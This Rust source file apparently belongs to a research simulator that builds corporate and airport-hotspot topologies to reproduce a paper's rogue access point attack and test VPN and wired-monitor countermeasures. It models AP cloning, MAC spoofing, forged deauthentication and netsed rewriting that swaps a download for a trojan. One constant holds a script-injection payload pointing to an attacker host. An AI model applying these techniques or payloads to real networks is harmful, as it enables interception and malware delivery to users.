//! Prefabricated topologies.
//!
//! [`CorpScenario`] is the paper's testbed (Figures 1–3): a corporate
//! 802.11b network with a wired LAN, an upstream router, "Internet"
//! servers (the target download portal and the attacker's trojan
//! mirror), one victim laptop, and optionally the two-NIC MITM gateway
//! and/or a VPN endpoint.
//!
//! ```text
//!                (ch 1)                    corp LAN            internet
//!  victim ))))  valid AP ══╦═════════╦═══ router ═════╦══════════╦
//!    )                     ║         ║                ║          ║
//!    ) (ch 6)          vpn endpt   monitor        target web   evil web
//!  rogue AP ─┐         (192.168.    (tap)         (10.9.9.9)  (10.6.6.6)
//!            │           0.200)
//!     MITM gateway ))))  valid AP      ← second NIC, associated as a client
//! ```

use bytes::Bytes;
use rogue_attack::{clone_ap, MitmGatewayConfig};
use rogue_crypto::wep::WepKey;
use rogue_dot11::{ApConfig, MacAddr, StaConfig};
use rogue_netstack::netfilter::SnatRule;
use rogue_netstack::{IfIndex, Ipv4Addr};
use rogue_phy::{MediumParams, Pos};
use rogue_services::apps::HttpServerApp;
use rogue_services::netsed::Netsed;
use rogue_services::site::{download_portal_padded, make_binary, trojan_site, DownloadPortal};
use rogue_sim::{Seed, SimDuration, SimRng, SimTime};
use rogue_vpn::client::VpnClientConfig;
use rogue_vpn::server::{ClientAccount, VpnServerConfig};
use rogue_vpn::{Transport, VpnClient, VpnServer, PSK_LEN};
use rogue_wids::WiredMonitor;

use crate::world::{NodeId, SwitchId, World};

/// Well-known addresses of the corporate scenario.
pub mod addrs {
    use super::Ipv4Addr;

    /// Corporate router / default gateway.
    pub const CORP_GW: Ipv4Addr = Ipv4Addr::new(192, 168, 0, 254);
    /// Victim laptop.
    pub const VICTIM: Ipv4Addr = Ipv4Addr::new(192, 168, 0, 50);
    /// MITM gateway, rogue-AP side ("wlan0" in Appendix A).
    pub const GATEWAY_WLAN: Ipv4Addr = Ipv4Addr::new(192, 168, 0, 1);
    /// MITM gateway, uplink side ("eth1").
    pub const GATEWAY_UPLINK: Ipv4Addr = Ipv4Addr::new(192, 168, 0, 2);
    /// VPN endpoint on the trusted wired LAN.
    pub const VPN_ENDPOINT: Ipv4Addr = Ipv4Addr::new(192, 168, 0, 200);
    /// Router's internet-facing address.
    pub const ROUTER_WAN: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 254);
    /// The target download portal ("Target-IP" in §4.1).
    pub const TARGET: Ipv4Addr = Ipv4Addr::new(10, 9, 9, 9);
    /// The attacker's trojan mirror.
    pub const EVIL: Ipv4Addr = Ipv4Addr::new(10, 6, 6, 6);
    /// Victim's tunnel-internal address.
    pub const VICTIM_TUN: Ipv4Addr = Ipv4Addr::new(10, 8, 0, 2);
    /// Endpoint's tunnel-internal address.
    pub const ENDPOINT_TUN: Ipv4Addr = Ipv4Addr::new(10, 8, 0, 1);
}

/// The cloned AP MAC from Figure 1 (`AA:BB:CC:DD` padded to 6 bytes).
pub fn corp_bssid() -> MacAddr {
    MacAddr([0xAA, 0xBB, 0xCC, 0xDD, 0x00, 0x01])
}

/// MAC of the victim laptop.
pub fn victim_mac() -> MacAddr {
    MacAddr::local(50)
}

/// MAC of an absent-but-authorized employee (sniffed by the attacker for
/// the ACL bypass).
pub fn employee_mac() -> MacAddr {
    MacAddr::local(51)
}

/// Scenario options.
#[derive(Clone, Debug)]
pub struct CorpScenarioCfg {
    /// WEP key on the corporate network (None = open).
    pub wep: Option<WepKey>,
    /// MAC allow-list on the legitimate AP.
    pub mac_filter: bool,
    /// Deploy the MITM gateway (rogue AP + bridge + netsed)?
    pub rogue: Option<RogueCfg>,
    /// Deploy the VPN endpoint, and provision the victim to use it?
    pub victim_vpn: Option<Transport>,
    /// Victim position (valid AP at the origin).
    pub victim_pos: Pos,
    /// Download size served by the portal.
    pub file_len: usize,
    /// Victim's TCP MSS (swept by E2's boundary experiment).
    pub victim_mss: usize,
    /// Target web server's TCP MSS (controls the segment boundaries the
    /// netsed proxy sees).
    pub server_mss: usize,
    /// Filler bytes ahead of the portal page content (randomized by the
    /// E2 boundary experiment to shift segment boundaries).
    pub page_pad: usize,
    /// Log-normal shadowing sigma on the radio medium, dB.
    pub shadowing_sigma_db: f64,
    /// A span-port tap on the corp LAN for the wired monitor
    /// ([`CorpScenario::wired_census`]).
    pub wired_monitor: bool,
}

/// Rogue gateway options.
#[derive(Clone, Debug)]
pub struct RogueCfg {
    /// Gateway position.
    pub pos: Pos,
    /// Rogue AP transmit power (valid AP transmits at 15 dBm).
    pub tx_power_dbm: f64,
    /// Rogue AP channel (Figure 1 uses 6).
    pub channel: u8,
    /// Send targeted forged deauths at the victim.
    pub deauth_victim: bool,
    /// When the rogue comes on air (ZERO = from the start; later values
    /// model the attacker arriving after the victim has associated).
    pub start_at: SimTime,
}

impl Default for RogueCfg {
    fn default() -> Self {
        RogueCfg {
            pos: Pos::new(40.0, 0.0),
            tx_power_dbm: 18.0,
            channel: 6,
            deauth_victim: false,
            start_at: SimTime::ZERO,
        }
    }
}

impl CorpScenarioCfg {
    /// The Section 4 proof-of-concept configuration: WEP network, rogue
    /// gateway present, no VPN.
    pub fn paper_attack() -> CorpScenarioCfg {
        CorpScenarioCfg {
            wep: Some(WepKey::from_passphrase_40("SECRET")),
            mac_filter: true,
            rogue: Some(RogueCfg::default()),
            victim_vpn: None,
            victim_pos: Pos::new(35.0, 5.0),
            file_len: 32 * 1024,
            victim_mss: 1400,
            server_mss: 1400,
            page_pad: 0,
            shadowing_sigma_db: 0.0,
            wired_monitor: false,
        }
    }

    /// A healthy network (no attacker).
    pub fn baseline() -> CorpScenarioCfg {
        CorpScenarioCfg {
            rogue: None,
            ..CorpScenarioCfg::paper_attack()
        }
    }
}

/// Handles into a built corporate scenario.
pub struct CorpScenario {
    /// The world to run.
    pub world: World,
    /// Scenario seed (replications fork from it).
    pub seed: Seed,
    /// The victim machine.
    pub victim: NodeId,
    /// Victim's station radio index.
    pub victim_radio: usize,
    /// Victim's wifi interface.
    pub victim_iface: IfIndex,
    /// The legitimate AP node.
    pub valid_ap: NodeId,
    /// Radio index of the legitimate AP.
    pub valid_ap_radio: usize,
    /// Corporate router.
    pub router: NodeId,
    /// Target web server node and its HTTP app index.
    pub target_server: (NodeId, usize),
    /// Evil mirror node and its HTTP app index.
    pub evil_server: (NodeId, usize),
    /// MITM gateway handles, if deployed.
    pub gateway: Option<GatewayHandles>,
    /// VPN endpoint node, if deployed.
    pub vpn_endpoint: Option<NodeId>,
    /// Wired monitor host node, if deployed: a span-port tap on the
    /// corp switch ([`CorpScenario::wired_census`]).
    pub monitor_node: Option<NodeId>,
    /// The corp LAN switch.
    pub corp_switch: SwitchId,
    /// The genuine portal.
    pub portal: DownloadPortal,
    /// The trojan binary the attacker serves.
    pub trojan: Bytes,
    /// The trojan's md5 (what netsed substitutes on the page).
    pub trojan_md5: String,
    /// Pre-shared key provisioned for the victim's VPN.
    pub vpn_psk: [u8; PSK_LEN],
}

impl CorpScenario {
    /// The §2.3 wired MAC census over everything the monitor node's
    /// span port captured so far, against the site's device registry;
    /// `None` without a wired monitor.
    pub fn wired_census(&self) -> Option<WiredMonitor> {
        let tap = self.world.wire_tap(self.monitor_node?)?;
        let mut census = WiredMonitor::new([
            MacAddr::local(254), // router
            MacAddr::local(200), // vpn endpoint
            victim_mac(),
            employee_mac(),
            corp_bssid(),
        ]);
        for (at, frame) in &tap.frames {
            census.inspect(*at, frame);
        }
        Some(census)
    }
}

/// Handles into the MITM gateway.
pub struct GatewayHandles {
    /// Gateway node.
    pub node: NodeId,
    /// Rogue AP radio index on the gateway.
    pub rogue_ap_radio: usize,
    /// Uplink station radio index.
    pub uplink_radio: usize,
    /// netsed app index.
    pub netsed_app: usize,
    /// parprouted app index.
    pub parprouted_app: usize,
    /// Deauth injector radio index, if enabled.
    pub injector_radio: Option<usize>,
}

/// Build the corporate scenario.
pub fn build_corp(cfg: &CorpScenarioCfg, seed: Seed) -> CorpScenario {
    let mut world = World::new(
        seed,
        MediumParams {
            shadowing_sigma_db: cfg.shadowing_sigma_db,
            ..MediumParams::default()
        },
    );
    let mut rng = SimRng::new(seed.fork(0xC0AB));
    let corp_switch = world.add_switch(SimDuration::from_micros(10));
    let inet_switch = world.add_switch(SimDuration::from_micros(50));

    // --- content ---------------------------------------------------
    let portal = download_portal_padded(make_binary(&mut rng, cfg.file_len), cfg.page_pad);
    let trojan = make_binary(&mut rng, cfg.file_len);
    let (evil_content, trojan_md5) = trojan_site(trojan.clone());

    // --- the legitimate AP (Figure 1 left) --------------------------
    let mut ap_cfg = ApConfig::typical(corp_bssid(), "CORP", 1, cfg.wep.clone());
    if cfg.mac_filter {
        ap_cfg.acl = Some([victim_mac(), employee_mac()].into_iter().collect());
    }
    let valid_ap = world.add_node("valid-ap");
    let valid_ap_radio = world.add_ap_bridge(
        valid_ap,
        Pos::new(0.0, 0.0),
        15.0,
        ap_cfg,
        Some(corp_switch),
    );

    // --- corporate router -------------------------------------------
    let router = world.add_node("corp-router");
    world.add_wired_iface(router, corp_switch, MacAddr::local(254), addrs::CORP_GW, 24);
    world.add_wired_iface(
        router,
        inet_switch,
        MacAddr::local(253),
        addrs::ROUTER_WAN,
        8,
    );
    world.host_mut(router).ip_forward = true;

    // --- internet servers --------------------------------------------
    let target_node = world.add_node("target-www");
    world.add_wired_iface(
        target_node,
        inet_switch,
        MacAddr::local(99),
        addrs::TARGET,
        8,
    );
    world
        .host_mut(target_node)
        .routes
        .add_default(addrs::ROUTER_WAN, 0);
    world.host_mut(target_node).tcp_mss = cfg.server_mss;
    let target_app = world.add_app(
        target_node,
        Box::new(HttpServerApp::new(80, portal.site.clone())),
    );

    let evil_node = world.add_node("evil-www");
    world.add_wired_iface(evil_node, inet_switch, MacAddr::local(66), addrs::EVIL, 8);
    world
        .host_mut(evil_node)
        .routes
        .add_default(addrs::ROUTER_WAN, 0);
    let evil_app = world.add_app(evil_node, Box::new(HttpServerApp::new(80, evil_content)));

    // --- victim -------------------------------------------------------
    let victim = world.add_node("victim");
    let sta_cfg = StaConfig::typical(victim_mac(), "CORP", cfg.wep.clone());
    let (victim_radio, victim_iface) =
        world.add_sta(victim, cfg.victim_pos, 15.0, sta_cfg, addrs::VICTIM, 24);
    world.host_mut(victim).tcp_mss = cfg.victim_mss;

    // --- VPN endpoint + victim provisioning ---------------------------
    let mut vpn_psk = [0u8; PSK_LEN];
    rng.fill_bytes(&mut vpn_psk);
    let mut vpn_endpoint = None;
    if let Some(transport) = cfg.victim_vpn {
        let ep = world.add_node("vpn-endpoint");
        let ep_wired = world.add_wired_iface(
            ep,
            corp_switch,
            MacAddr::local(200),
            addrs::VPN_ENDPOINT,
            24,
        );
        let ep_tun = world.add_tun_iface(ep, MacAddr::local(201), addrs::ENDPOINT_TUN, 24);
        {
            let host = world.host_mut(ep);
            host.ip_forward = true;
            host.routes.add_default(addrs::CORP_GW, ep_wired);
            host.netfilter.add_snat(SnatRule {
                out_ifindex: ep_wired,
                // Only tunnel-internal sources: `-s 10.8.0.0/24`.
                src_net: Some((Ipv4Addr::new(10, 8, 0, 0), 24)),
                to_ip: None,
            });
        }
        let server = VpnServer::new(
            VpnServerConfig {
                port: 4500,
                transport,
                accounts: [(
                    7,
                    ClientAccount {
                        psk: vpn_psk,
                        tun_ip: addrs::VICTIM_TUN,
                    },
                )]
                .into_iter()
                .collect(),
                tun_ifindex: ep_tun,
                tun_peer_mac: MacAddr::local(101),
            },
            rng.fork(0xE9),
        );
        world.attach_vpn_server(ep, ep_tun, server);
        vpn_endpoint = Some(ep);

        // Victim side: tun device + default route into the tunnel.
        let v_tun = world.add_tun_iface(victim, MacAddr::local(101), addrs::VICTIM_TUN, 24);
        world
            .host_mut(victim)
            .routes
            .add_default(addrs::ENDPOINT_TUN, v_tun);
        let client = VpnClient::new(
            VpnClientConfig {
                server: (addrs::VPN_ENDPOINT, 4500),
                psk: vpn_psk,
                client_id: 7,
                transport,
                tun_ifindex: v_tun,
                tun_gateway_ip: addrs::ENDPOINT_TUN,
                tun_gateway_mac: MacAddr::local(201),
                start_at: SimTime::from_millis(100),
            },
            rng.fork(0xEA),
        );
        world.attach_vpn_client(victim, v_tun, client);
    } else {
        // No VPN: ordinary default route via the corp gateway.
        world
            .host_mut(victim)
            .routes
            .add_default(addrs::CORP_GW, victim_iface);
    }

    // --- wired monitor -------------------------------------------------
    let monitor_node = cfg.wired_monitor.then(|| {
        let mn = world.add_node("wired-monitor");
        world.add_wire_tap(mn, corp_switch);
        mn
    });

    // --- the MITM gateway (Figures 1 & 2) ------------------------------
    let mut gateway = None;
    if let Some(rogue) = &cfg.rogue {
        let gw = world.add_node("mitm-gateway");

        // Uplink NIC: associated to CORP as a valid client. Under MAC
        // filtering the attacker clones the absent employee's address
        // (§2.1: "valid MACs can be sniffed from the network").
        let uplink_mac = if cfg.mac_filter {
            employee_mac()
        } else {
            MacAddr::local(60)
        };
        let mut uplink_cfg = StaConfig::typical(uplink_mac, "CORP", cfg.wep.clone());
        uplink_cfg.channels = vec![1]; // knows the real AP's channel
        let (uplink_radio, uplink_iface) =
            world.add_sta(gw, rogue.pos, 15.0, uplink_cfg, addrs::GATEWAY_UPLINK, 24);

        // Rogue AP NIC: Figure 1 — cloned SSID, BSSID and WEP key,
        // different channel.
        let observed = rogue_dot11::frame::MgmtInfo {
            timestamp: 0,
            beacon_interval_tu: 100,
            capability: 0, // unused by clone_ap
            ssid: "CORP".into(),
            channel: 1,
        };
        let rogue_ap_cfg = clone_ap(&observed, corp_bssid(), rogue.channel, cfg.wep.clone());
        let (rogue_ap_radio, wlan_iface) = world.add_ap_local_starting_at(
            gw,
            rogue.pos,
            rogue.tx_power_dbm,
            rogue_ap_cfg,
            addrs::GATEWAY_WLAN,
            24,
            rogue.start_at,
        );

        // Appendix A + §4.1: forwarding, proxy ARP, routes, DNAT, netsed.
        let mitm = MitmGatewayConfig {
            wlan_if: wlan_iface,
            uplink_if: uplink_iface,
            corp_gateway: addrs::CORP_GW,
            target_ip: addrs::TARGET,
            netsed_port: 10101,
            rules: Netsed::paper_rules(addrs::EVIL, &portal.real_md5, &trojan_md5),
        };
        let (netsed, parprouted) = {
            let host = world.host_mut(gw);
            mitm.apply(host)
        };
        let netsed_app = world.add_app(gw, Box::new(netsed));
        let parprouted_app = world.add_app(gw, Box::new(parprouted));

        // Targeted forged deauth, if requested.
        let injector_radio = if rogue.deauth_victim {
            let flooder = rogue_attack::DeauthFlooder::steady(
                corp_bssid(),
                Some(victim_mac()),
                rogue.start_at + SimDuration::from_millis(700),
                SimDuration::from_millis(150),
                rogue.start_at + SimDuration::from_secs(60),
            );
            // The injector transmits on the *valid* AP's channel.
            Some(world.add_injector(gw, rogue.pos, 18.0, 1, flooder))
        } else {
            None
        };

        gateway = Some(GatewayHandles {
            node: gw,
            rogue_ap_radio,
            uplink_radio,
            netsed_app,
            parprouted_app,
            injector_radio,
        });
    }

    CorpScenario {
        world,
        seed,
        victim,
        victim_radio,
        victim_iface,
        valid_ap,
        valid_ap_radio,
        router,
        target_server: (target_node, target_app),
        evil_server: (evil_node, evil_app),
        gateway,
        vpn_endpoint,
        monitor_node,
        corp_switch,
        portal,
        trojan,
        trojan_md5,
        vpn_psk,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rogue_dot11::sta::StaState;

    #[test]
    fn baseline_victim_associates_and_reaches_target() {
        let cfg = CorpScenarioCfg::baseline();
        let mut sc = build_corp(&cfg, Seed(1));
        sc.world.run_until(SimTime::from_secs(3));
        assert_eq!(
            sc.world.sta_state(sc.victim, sc.victim_radio),
            StaState::Associated
        );
        // Victim pings the target across the router.
        let now = sc.world.now();
        sc.world.host_mut(sc.victim).ping(now, addrs::TARGET, 1);
        sc.world.run_until(now + SimDuration::from_secs(2));
        let events = sc.world.host_mut(sc.victim).take_events();
        assert!(
            events.iter().any(|e| matches!(
                e,
                rogue_netstack::HostEvent::PingReply { from, .. } if *from == addrs::TARGET
            )),
            "ping must cross AP bridge + router: {events:?}"
        );
    }

    #[test]
    fn rogue_scenario_victim_lands_on_rogue_and_still_reaches_target() {
        let cfg = CorpScenarioCfg::paper_attack();
        let mut sc = build_corp(&cfg, Seed(2));
        sc.world.run_until(SimTime::from_secs(4));
        assert_eq!(
            sc.world.sta_state(sc.victim, sc.victim_radio),
            StaState::Associated
        );
        // The rogue (18 dBm at 5.6 m) outshines the valid AP (15 dBm at
        // ~35 m): victim must associate on the rogue's channel.
        let gw = sc.gateway.as_ref().expect("rogue deployed");
        let rogue_ap = sc.world.ap(gw.node, gw.rogue_ap_radio);
        assert!(
            rogue_ap.is_associated(victim_mac()),
            "victim must be on the rogue AP"
        );
        // And the gateway's uplink must be associated to the valid AP.
        assert_eq!(
            sc.world.sta_state(gw.node, gw.uplink_radio),
            StaState::Associated
        );
        // Transparent bridging: the victim can still ping the target.
        let now = sc.world.now();
        sc.world.host_mut(sc.victim).ping(now, addrs::TARGET, 9);
        sc.world.run_until(now + SimDuration::from_secs(3));
        let events = sc.world.host_mut(sc.victim).take_events();
        assert!(
            events.iter().any(|e| matches!(
                e,
                rogue_netstack::HostEvent::PingReply { from, .. } if *from == addrs::TARGET
            )),
            "bridge must be transparent: {events:?}"
        );
    }
}

// ---------------------------------------------------------------------
// The Hostile Hotspot (§1.2.2 / §5.1)
// ---------------------------------------------------------------------

/// Addresses of the hotspot scenario.
pub mod hotspot_addrs {
    use super::Ipv4Addr;

    /// The hotspot's wireless-side gateway address.
    pub const HOTSPOT_LAN: Ipv4Addr = Ipv4Addr::new(10, 1, 0, 1);
    /// The hotspot's internet-side address.
    pub const HOTSPOT_WAN: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 99);
    /// The traveller's laptop.
    pub const TRAVELLER: Ipv4Addr = Ipv4Addr::new(10, 1, 0, 50);
    /// The big, legitimate news site ("CNN" in §5.1).
    pub const NEWS: Ipv4Addr = Ipv4Addr::new(10, 5, 5, 5);
    /// The trusted VPN endpoint (the traveller's home corporation).
    pub const HOME_VPN: Ipv4Addr = Ipv4Addr::new(10, 7, 7, 7);
}

/// Hostile-hotspot options.
#[derive(Clone, Debug)]
pub struct HotspotScenarioCfg {
    /// Does the operator tamper with traffic (§1.2.2: "the owner …
    /// has malicious intentions and tampers with the traffic")?
    pub hostile: bool,
    /// Does the traveller tunnel everything home (§5)?
    pub victim_vpn: Option<Transport>,
}

impl HotspotScenarioCfg {
    /// The §5.1 scenario: a hostile hotspot injecting script into pages
    /// from a perfectly trustworthy website.
    pub fn cnn_scenario() -> HotspotScenarioCfg {
        HotspotScenarioCfg {
            hostile: true,
            victim_vpn: None,
        }
    }
}

/// Handles into a built hotspot scenario.
pub struct HotspotScenario {
    /// The world to run.
    pub world: World,
    /// The traveller's machine.
    pub victim: NodeId,
    /// Victim's station radio index.
    pub victim_radio: usize,
    /// The hotspot machine (AP + router + possibly netsed).
    pub hotspot: NodeId,
    /// netsed app index on the hotspot, when hostile.
    pub netsed_app: Option<usize>,
    /// The news server node and HTTP app index.
    pub news_server: (NodeId, usize),
    /// The genuine news page body (tamper reference).
    pub genuine_page: Bytes,
    /// The script tag the hostile operator injects.
    pub injected_script: &'static str,
    /// VPN pre-shared key, when provisioned.
    pub vpn_psk: [u8; PSK_LEN],
}

/// The payload a hostile hotspot splices into every HTML page (§5.1:
/// "anyone could insert malicious code into any web content requested").
pub const HOTSPOT_INJECT: &str = "<script src=http://10.6.6.6/x.js></script>";

/// Build the hostile-hotspot scenario: the AP *is* the attacker, so no
/// bridge, no cloning, no cracking — just a gateway whose owner runs
/// netsed on everything.
pub fn build_hotspot(cfg: &HotspotScenarioCfg, seed: Seed) -> HotspotScenario {
    use rogue_netstack::netfilter::DnatRule;
    use rogue_netstack::proto;
    use rogue_services::site::news_site;

    let mut world = World::new(seed, MediumParams::default());
    let mut rng = SimRng::new(seed.fork(0x407));
    let inet = world.add_switch(SimDuration::from_micros(50));

    // The news site.
    let news_node = world.add_node("news-www");
    world.add_wired_iface(news_node, inet, MacAddr::local(90), hotspot_addrs::NEWS, 8);
    let site = news_site();
    let genuine_page = site.get("/index.html").expect("news page").1.clone();
    let news_app = world.add_app(news_node, Box::new(HttpServerApp::new(80, site)));

    // The hotspot: an open AP on a NAT router.
    let hotspot = world.add_node("hotspot");
    let ap_cfg = ApConfig::typical(MacAddr::local(70), "FreeAirportWiFi", 6, None);
    let (_ap_radio, lan_if) = world.add_ap_local(
        hotspot,
        Pos::new(0.0, 0.0),
        15.0,
        ap_cfg,
        hotspot_addrs::HOTSPOT_LAN,
        24,
    );
    let wan_if = world.add_wired_iface(
        hotspot,
        inet,
        MacAddr::local(71),
        hotspot_addrs::HOTSPOT_WAN,
        8,
    );
    {
        let host = world.host_mut(hotspot);
        host.ip_forward = true;
        host.netfilter.add_snat(SnatRule {
            out_ifindex: wan_if,
            src_net: Some((Ipv4Addr::new(10, 1, 0, 0), 24)),
            to_ip: None,
        });
    }
    let mut netsed_app = None;
    if cfg.hostile {
        // Tamper with ALL web traffic: DNAT *:80 into a local netsed
        // that splices a script tag before </body>.
        let host = world.host_mut(hotspot);
        host.netfilter.add_dnat(DnatRule {
            proto: Some(proto::TCP),
            dst: None,
            dport: Some(80),
            to: (hotspot_addrs::HOTSPOT_LAN, 10101),
        });
        let rules = vec![rogue_services::netsed::NetsedRule::new(
            "</body>",
            &format!("{HOTSPOT_INJECT}</body>"),
        )];
        let netsed = Netsed::new(10101, (hotspot_addrs::NEWS, 80), rules);
        netsed_app = Some(world.add_app(hotspot, Box::new(netsed)));
    }
    let _ = lan_if;

    // The traveller.
    let victim = world.add_node("traveller");
    let sta_cfg = StaConfig::typical(MacAddr::local(55), "FreeAirportWiFi", None);
    let (victim_radio, victim_iface) = world.add_sta(
        victim,
        Pos::new(10.0, 0.0),
        15.0,
        sta_cfg,
        hotspot_addrs::TRAVELLER,
        24,
    );

    // VPN home endpoint + provisioning.
    let mut vpn_psk = [0u8; PSK_LEN];
    rng.fill_bytes(&mut vpn_psk);
    if let Some(transport) = cfg.victim_vpn {
        let home = world.add_node("home-vpn");
        let home_wired =
            world.add_wired_iface(home, inet, MacAddr::local(72), hotspot_addrs::HOME_VPN, 8);
        let home_tun = world.add_tun_iface(home, MacAddr::local(201), addrs::ENDPOINT_TUN, 24);
        {
            let host = world.host_mut(home);
            host.ip_forward = true;
            host.netfilter.add_snat(SnatRule {
                out_ifindex: home_wired,
                src_net: Some((Ipv4Addr::new(10, 8, 0, 0), 24)),
                to_ip: None,
            });
        }
        let server = VpnServer::new(
            VpnServerConfig {
                port: 4500,
                transport,
                accounts: [(
                    7,
                    ClientAccount {
                        psk: vpn_psk,
                        tun_ip: addrs::VICTIM_TUN,
                    },
                )]
                .into_iter()
                .collect(),
                tun_ifindex: home_tun,
                tun_peer_mac: MacAddr::local(101),
            },
            rng.fork(0xE9),
        );
        world.attach_vpn_server(home, home_tun, server);

        let v_tun = world.add_tun_iface(victim, MacAddr::local(101), addrs::VICTIM_TUN, 24);
        {
            let host = world.host_mut(victim);
            // The encapsulated transport rides the hotspot; everything
            // else goes into the tunnel.
            host.routes.add(rogue_netstack::routing::Route {
                network: hotspot_addrs::HOME_VPN,
                prefix_len: 32,
                gateway: Some(hotspot_addrs::HOTSPOT_LAN),
                ifindex: victim_iface,
            });
            host.routes.add_default(addrs::ENDPOINT_TUN, v_tun);
        }
        let client = VpnClient::new(
            VpnClientConfig {
                server: (hotspot_addrs::HOME_VPN, 4500),
                psk: vpn_psk,
                client_id: 7,
                transport,
                tun_ifindex: v_tun,
                tun_gateway_ip: addrs::ENDPOINT_TUN,
                tun_gateway_mac: MacAddr::local(201),
                start_at: SimTime::from_millis(100),
            },
            rng.fork(0xEA),
        );
        world.attach_vpn_client(victim, v_tun, client);
    } else {
        world
            .host_mut(victim)
            .routes
            .add_default(hotspot_addrs::HOTSPOT_LAN, victim_iface);
    }

    HotspotScenario {
        world,
        victim,
        victim_radio,
        hotspot,
        netsed_app,
        news_server: (news_node, news_app),
        genuine_page,
        injected_script: HOTSPOT_INJECT,
        vpn_psk,
    }
}
